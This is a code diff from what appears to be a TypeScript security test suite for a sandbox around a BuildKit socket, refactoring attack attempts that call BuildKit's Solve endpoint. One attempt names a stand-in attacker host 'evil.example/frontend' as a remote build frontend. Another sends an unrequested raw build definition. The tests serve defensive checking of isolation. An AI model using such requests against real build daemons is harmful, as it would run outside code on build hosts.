@@ -224,18 +224,20 @@ const built: readonly Attack[] = [
       message: { Frontend: "gateway.v0", FrontendAttrs: new Map([["source", "evil.example/frontend"]]) },
     },
     { name: "a build of steps that no Dockerfile says", message: { Definition: Buffer.from([10, 0]) } },
-  ].map(({ name, message }) => ({
-    name,
-    attempt: async (door: Door) => {
-      const solve = writeMessage({ Ref: `attack-${name}`, ...message }, solveRequest);
-      const answer = await callBuildkit(door.socketPath, "/moby.buildkit.v1.Control/Solve", solve).catch(
-        String,
-      );
-      return typeof answer === "string" ? answer : `BuildKit was asked: ${answer.message}`;
-    },
-    // Whatever BuildKit says to it: it got there.
-    seen: (_: unknown, said: string) => said.includes("BuildKit was asked") && !said.includes("bulkhead"),
-  })),
+  ].map(({ name, message }): Attack => {
+    let said = "";
+    return {
+      name,
+      async attempt(door) {
+        said = "";
+        const solve = writeMessage({ Ref: `attack-${name}`, ...message }, solveRequest);
+        const answer = await callBuildkit(door.socketPath, "/moby.buildkit.v1.Control/Solve", solve);
+        said = `BuildKit was asked: ${answer.message}`;
+      },
+      // Whatever BuildKit says to it: it got there.
+      seen: () => said.includes("BuildKit was asked") && !said.includes("bulkhead"),
+    };
+  }),
 ];
 
 const outgoing: readonly Attack[] = [
